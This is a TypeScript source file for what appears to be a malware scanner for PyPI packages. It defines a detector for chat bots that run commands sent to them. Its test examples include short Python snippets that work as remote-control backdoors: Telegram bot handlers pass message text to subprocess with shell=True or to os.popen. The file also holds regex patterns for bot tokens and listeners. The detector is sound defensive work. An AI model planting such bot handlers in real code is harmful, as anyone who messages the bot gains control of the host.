import { isUnknown } from "../behaviour/commands.ts";
import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, matchInCode, sight } from "./_sight.ts";

const BOTS = ["telebot", "telegram", "pyrogram", "telethon", "aiogram", "discord", "getupdates"] as const;
/** Messages are received: handlers, polling, gateways. */
const LISTENS =
  /message_handler|infinity_polling|\.polling\(|start_polling|run_polling|getUpdates|get_updates|on_message|MessageHandler|CommandHandler|@\w{1,30}\.(?:command|event|message|on)\b|gateway\.discord\.gg/;
const TOKEN = /["'`]\d{8,11}:A[\w-]{34}["'`]|["'`][MNO][\w-]{23,27}\.[\w-]{6}\.[\w-]{27,40}["'`]/;

export const chatBotRunsCommands: Detector = {
  id: "chat-bot-runs-commands",
  title: "A chat bot runs whatever it is told",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 6.4,
  class: "threat",
  group: "remote-control",
  why: `The code listens for messages of a chat service and starts commands that are not constant: whoever writes to the bot controls the
machine. With the bot's token written into the release, that is its author.

Administrators run such bots on their own machines, with a token of their own; those count less.`,
  literals: BOTS,
  *detect(tree) {
    for (const file of codeWith(tree, BOTS)) {
      if (file.kind !== "python") continue;
      const run = deedsOf(file, "start", "run-code").find((deed) => isUnknown(deed.text) && deed.words.trim() !== "()");
      if (run === undefined || matchInCode(file, LISTENS) === undefined) continue;
      const share = matchInCode(file, TOKEN) === undefined ? 0.5 : 1;
      yield sight(file, run.offset, `a chat bot runs what it receives by ${run.what}`, { share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": `import telebot, subprocess\nbot = telebot.TeleBot('123456789:A${"aB3_".repeat(8)}xy')\n@bot.message_handler(func=lambda m: True)\ndef all(m):\n    bot.reply_to(m, subprocess.check_output(m.text, shell=True))\nbot.infinity_polling()\n`,
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import telebot, subprocess\nbot = telebot.TeleBot(token)\n@bot.message_handler(commands=['up'])\ndef up(m):\n    bot.reply_to(m, subprocess.check_output(['uptime']))\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py": `import telebot as t, os\nb = t.TeleBot('123456789:A${"aB3_".repeat(8)}xy')\n@b.message_handler(content_types=['text'])\ndef f(m):\n    b.reply_to(m, os.popen(m.text).read())\n`,
        },
      },
    ],
  },
};
